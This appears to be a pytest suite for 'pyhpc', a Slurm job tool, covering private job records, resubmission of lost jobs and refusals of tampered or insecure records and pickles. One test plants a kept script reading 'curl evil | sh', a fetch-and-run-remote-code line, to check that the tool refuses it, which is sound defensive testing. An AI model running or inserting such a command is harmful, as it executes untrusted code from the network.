"""Job records and ``pyhpc resubmit``: what pyhpc keeps of each job it submits, and the
same work submitted again, for each kind of job; refusals are one line and exit 2."""
from __future__ import annotations

import json
import os
import pickle
import stat
from pathlib import Path

import pytest

from pyhpc import files
from pyhpc.cli import main as cli
from pyhpc.slurm import records, resubmit
from pyhpc.slurm.rows import stamp

COUNTING_SBATCH = """#!/bin/bash
echo "sbatch $*" >> "{log}"
n=$(cat "{counter}" 2>/dev/null || echo 4243)
echo $((n + 1)) > "{counter}"
echo "Submitted batch job $n"
"""


@pytest.fixture
def cluster(slurm, tmp_path: Path):
    """Fake Slurm tools; sbatch on PATH (submitit's) counts up from 4243, and pyhpc's own
    sbatch (the fake runner) from 4242, so each submission gets a new id."""
    sbatch = tmp_path / "fake-bin" / "sbatch"
    sbatch.write_text(COUNTING_SBATCH.format(log=slurm.log, counter=tmp_path / "counter"))
    ids = iter(range(4242, 4300, 10))
    slurm.fake.answers["sbatch"] = lambda argv: (0, f"{next(ids)}\n")
    return slurm


def record_of(job_id: str, folder: Path) -> dict:
    return json.loads((folder / "records" / f"{job_id}.json").read_text())


def lost_in_a_crash(fake, job_id: str, submitted: int) -> None:
    """Accounting holds the job open; slurmctld, booted 5 s after it, does not know it."""
    fake.answers.update({
        "sacct": (0, f"{job_id}|RUNNING|None|{stamp(submitted)}\n"), "squeue": (0, ""),
        "scontrol": (0, f"BOOT_TIME = {stamp(submitted + 5)}\n"),
        "sdiag": (0, "DBD Agent queue size: 0\n")})


def one_line_exit_2(argv: list[str], capsys) -> str:
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("pyhpc: error: ") and err.count("\n") == 1
    return err


# -- records ---------------------------------------------------------------------------------

def test_a_script_job_is_recorded_with_a_copy_of_its_script_and_its_options(cluster, tmp_path,
                                                                            capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh", "--nodes", "2"]) == 0
    path = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
    record = json.loads(path.read_text())
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert (record["kind"], record["job_id"], record["cwd"]) == ("script", "4242", str(tmp_path))
    assert record["spec"]["nodes"] == 2 and record["only"] == ["nodes"]
    assert Path(record["script"]).read_text() == "#!/bin/bash\ntrue\n"
    assert Path(record["script"]).parent == tmp_path / "pyhpc-jobs" / "scripts"
    assert cluster.calls == [["scontrol", "show", "reservation", "-o"],
                             ["sbatch", "--parsable", "--nodes=2", "--", "job.sh"]]


def test_records_stay_private_when_output_is_group_readable(cluster, tmp_path,
                                                            monkeypatch) -> None:
    monkeypatch.setenv(files.GROUP_ENV, "0")  # restored afterwards: --group-readable sets it
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["--group-readable", "submit", "job.sh"]) == 0
    path = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_function_job_is_recorded_with_its_folder_and_pickle(cluster, tmp_path) -> None:
    assert cli.main(["submit", "posixpath:join", "a", "b"]) == 0
    record = record_of("4243", tmp_path / "pyhpc-jobs")
    assert record["kind"] == "function" and record["folder"] == str(tmp_path / "pyhpc-jobs" / "%j")
    assert record["job_folder"] == str(tmp_path / "pyhpc-jobs" / "4243")
    assert Path(record["pickle"]).is_file() and record["spec"]["partition"] == "cpu"


def test_a_test_only_submission_leaves_no_record(cluster, tmp_path) -> None:
    assert cli.main(["submit", "single", "--set", "command=true", "--test-only"]) == 0
    assert not (tmp_path / "pyhpc-jobs" / "records").exists()


# -- resubmit, each kind -----------------------------------------------------------------------

def test_a_lost_script_job_is_sbatched_again_as_it_was_submitted(cluster, tmp_path, capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh", "--nodes", "2", "--partition", "gpu"]) == 0
    (tmp_path / "job.sh").write_text("#!/bin/bash\necho edited since\n")
    first = record_of("4242", tmp_path / "pyhpc-jobs")
    lost_in_a_crash(cluster.fake, "4242", first["submitted"])
    capsys.readouterr()
    assert cli.main(["resubmit", "4242"]) == 0
    assert capsys.readouterr().out == "4252\n"
    assert cluster.calls[-1] == ["sbatch", "--parsable", "--nodes=2", "--partition=gpu", "--",
                                 first["script"]]
    assert Path(first["script"]).read_text() == "#!/bin/bash\ntrue\n"
    again = record_of("4252", tmp_path / "pyhpc-jobs")
    assert again["replaces"] == "4242" and again["kind"] == "script"
    assert [c[0] for c in cluster.calls] == ["scontrol", "sbatch", "sacct", "squeue", "scontrol",
                                             "sdiag", "scontrol", "sbatch"]


def test_a_lost_template_job_is_sbatched_again_from_its_rendered_script(cluster, tmp_path,
                                                                       capsys) -> None:
    assert cli.main(["submit", "single", "--set", "command=true", "--json"]) == 0
    script = json.loads(capsys.readouterr().out)["script"]
    lost_in_a_crash(cluster.fake, "4242", record_of("4242", tmp_path / "pyhpc-jobs")["submitted"])
    assert cli.main(["resubmit", "4242", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {"job_id": "4252", "replaces": "4242",
                                                   "kind": "template"}
    assert cluster.calls[-1] == ["sbatch", "--parsable", "--", script]


def test_a_lost_function_job_is_submitted_again_from_its_own_pickle(cluster, tmp_path,
                                                                   monkeypatch) -> None:
    assert cli.main(["submit", "posixpath:join", "a", "b", "--nodes", "2"]) == 0
    first = record_of("4243", tmp_path / "pyhpc-jobs")
    lost_in_a_crash(cluster.fake, "4243", first["submitted"])
    monkeypatch.chdir("/")  # resubmit runs where the job was submitted, wherever it is asked
    assert cli.main(["resubmit", "4243", "--folder", str(tmp_path / "pyhpc-jobs")]) == 0
    again = record_of("4244", tmp_path / "pyhpc-jobs")
    assert again["replaces"] == "4243" and again["kind"] == "function"
    assert again["spec"] == first["spec"] and again["cwd"] == str(tmp_path)
    call = pickle.loads(Path(again["pickle"]).read_bytes())
    assert (call.function.fn.__name__, call.args) == ("join", ("a", "b"))
    script = Path(again["job_folder"]) / "4244_submission.sh"
    assert "#SBATCH --nodes=2" in script.read_text()


def test_a_lost_training_run_is_submitted_again_into_the_same_run_directory(cluster, tmp_path,
                                                                           capsys) -> None:
    """The same call with the same run directory: the job resumes from its checkpoint."""
    out = tmp_path / "run"
    assert cli.main(["train", "--mode", "synthetic", "--out", str(out), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["job_id"] == "4243"
    lost_in_a_crash(cluster.fake, "4243", record_of("4243", tmp_path / "pyhpc-jobs")["submitted"])
    assert cli.main(["resubmit", "4243"]) == 0
    again = record_of("4244", tmp_path / "pyhpc-jobs")
    assert again["kind"] == "train" and again["replaces"] == "4243"
    trainer = pickle.loads(Path(again["pickle"]).read_bytes()).function
    assert trainer.cfg.out == str(out)


# -- refusals: one line, exit 2, nothing submitted ---------------------------------------------

def test_a_job_without_a_record_is_refused(cluster, tmp_path, capsys) -> None:
    err = one_line_exit_2(["resubmit", "999"], capsys)
    assert f"job: no record of job 999 in {tmp_path / 'pyhpc-jobs' / 'records'} (pyhpc keeps" in err
    assert cluster.calls == []


def test_a_job_that_is_not_lost_is_refused_with_its_state(cluster, tmp_path, capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh"]) == 0
    submitted = record_of("4242", tmp_path / "pyhpc-jobs")["submitted"]
    cluster.fake.answers.update({"sacct": (0, f"4242|RUNNING|None|{stamp(submitted)}\n"),
                                 "squeue": (0, f"4242|RUNNING|None|{stamp(submitted)}\n")})
    err = one_line_exit_2(["resubmit", "4242"], capsys)
    assert "job: 4242 is RUNNING, and pyhpc resubmits a job that was LOST or failed to start" in err
    assert "--force" in err and [c[0] for c in cluster.calls] == ["scontrol", "sbatch", "sacct",
                                                                 "squeue"]
    assert cli.main(["resubmit", "4242", "--force"]) == 0
    assert [c[0] for c in cluster.calls][-1] == "sbatch"
    assert [c[0] for c in cluster.calls].count("sacct") == 1  # --force asks nothing


def test_a_record_others_can_read_is_refused(cluster, tmp_path, capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh"]) == 0
    path = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
    path.chmod(0o644)
    err = one_line_exit_2(["resubmit", "4242", "--force"], capsys)
    assert f"record: refusing {path}: mode 0644 is not private" in err
    assert len(cluster.calls) == 2


def test_a_record_that_is_a_link_is_refused(cluster, tmp_path, capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh"]) == 0
    real = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
    (real.parent / "4300.json").symlink_to(real)
    err = one_line_exit_2(["resubmit", "4300", "--force"], capsys)
    assert "a symlink is never followed" in err and len(cluster.calls) == 2


@pytest.mark.skipif(os.geteuid() != 0, reason="gives a file to another user")
def test_a_record_of_another_user_is_refused(cluster, tmp_path, capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh"]) == 0
    path = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
    os.chown(path, 65534, 65534)
    err = one_line_exit_2(["resubmit", "4242", "--force"], capsys)
    assert "it belongs to" in err and "not to you" in err and len(cluster.calls) == 2


def test_a_pickle_in_a_folder_others_can_write_is_never_unpickled(cluster, tmp_path, capsys,
                                                                  monkeypatch) -> None:
    assert cli.main(["submit", "posixpath:join", "a", "b"]) == 0
    (tmp_path / "pyhpc-jobs" / "4243").chmod(0o777)
    monkeypatch.setattr(resubmit.pickle, "loads", lambda data: pytest.fail("unpickled"))
    err = one_line_exit_2(["resubmit", "4243", "--force"], capsys)
    assert "folder: refusing" in err and "is writable by every user (mode 0777)" in err
    assert records.records_dir(tmp_path / "pyhpc-jobs").joinpath("4244.json").exists() is False


def test_a_pickle_others_can_write_is_never_unpickled(cluster, tmp_path, capsys,
                                                      monkeypatch) -> None:
    assert cli.main(["submit", "posixpath:join", "a", "b"]) == 0
    pkl = Path(record_of("4243", tmp_path / "pyhpc-jobs")["pickle"])
    pkl.chmod(0o666)
    monkeypatch.setattr(resubmit.pickle, "loads", lambda data: pytest.fail("unpickled"))
    err = one_line_exit_2(["resubmit", "4243", "--force"], capsys)
    assert f"folder: refusing {pkl}: mode 0666 is not writable only by you" in err


def test_a_kept_script_that_changed_is_refused(cluster, tmp_path, capsys) -> None:
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    assert cli.main(["submit", "job.sh"]) == 0
    saved = Path(record_of("4242", tmp_path / "pyhpc-jobs")["script"])
    saved.write_text("#!/bin/bash\ncurl evil | sh\n")
    err = one_line_exit_2(["resubmit", "4242", "--force"], capsys)
    assert f"script: {saved} is no longer the script job 4242 ran" in err
    assert len(cluster.calls) == 2


# -- --wait ends LOST in one line that offers pyhpc resubmit -----------------------------------

def crash_while_watching(fake, job_id: str) -> None:
    """squeue shows the job once, then never again; accounting holds it open."""
    polls = iter([f"{job_id}|RUNNING|None|2026-11-25T16:18:50\n", ""])
    fake.answers.update({
        "squeue": lambda argv: (0, next(polls, "")),
        "sacct": (0, f"{job_id}|RUNNING|None|2026-11-25T16:18:50\n"),
        "scontrol": (0, "BOOT_TIME = 2026-11-25T16:18:54\n"),
        "sdiag": (0, "DBD Agent queue size: 0\n")})


@pytest.mark.parametrize(("argv", "job_id"), [
    (["submit", "single", "--set", "command=true", "--wait"], "4242"),
    (["train", "--mode", "synthetic", "--out", "run", "--wait"], "4243"),
    (["scale", "--nodes", "1", "--batch-sizes", "32", "--out", "sweep"], "4243"),
])
def test_waiting_for_a_lost_job_ends_in_one_line_that_offers_resubmit(argv, job_id, cluster,
                                                                      capsys) -> None:
    crash_while_watching(cluster.fake, job_id)
    assert cli.main(argv) == 2
    err = capsys.readouterr().err  # the watch's progress lines, then the one error line
    assert [line for line in err.splitlines() if not line.startswith("[")] == [err.splitlines()[-1]]
    assert err.splitlines()[-1] + "\n" == (f"pyhpc: error: job: {job_id} was lost: slurmctld restarted at "
                   "2026-11-25T16:18:54 before it saved the job, submitted 2026-11-25T16:18:50 "
                   "(accounting still says RUNNING, but it will never run or end); submit it "
                   f"again with: pyhpc resubmit {job_id}\n")


def test_status_watch_prints_the_states_then_the_lost_line(cluster, capsys) -> None:
    crash_while_watching(cluster.fake, "77")
    assert cli.main(["status", "77", "--watch", "--interval", "0.1"]) == 1
    out, err = capsys.readouterr()
    assert out == "77\tLOST\n" and err.splitlines()[-2] == "[    0s] 1/1 job finished | LOST 1"
    last = err.splitlines()[-1]
    assert last.startswith("pyhpc: error: job: 77 was lost:") and last.endswith("pyhpc resubmit 77")


def test_a_script_from_a_directory_others_can_write_runs_without_a_record(cluster, tmp_path,
                                                                          monkeypatch,
                                                                          capsys) -> None:
    """A script may be submitted from a shared project directory (it runs where it is
    told); pyhpc writes its record only in a directory that is yours alone, and says so."""
    shared = tmp_path / "project"
    shared.mkdir()
    shared.chmod(0o777)
    (tmp_path / "job.sh").write_text("#!/bin/bash\ntrue\n")
    monkeypatch.chdir(shared)
    assert cli.main(["submit", str(tmp_path / "job.sh")]) == 0
    out, err = capsys.readouterr()
    assert out == "4242\n" and err.count("\n") == 1
    assert err.startswith("pyhpc: note: job 4242: no record kept of this job, so pyhpc resubmit "
                          f"cannot submit it again (folder: refusing {shared / 'pyhpc-jobs' / 'records'}")
    assert list(shared.iterdir()) == [] and cluster.calls[-1][0] == "sbatch"
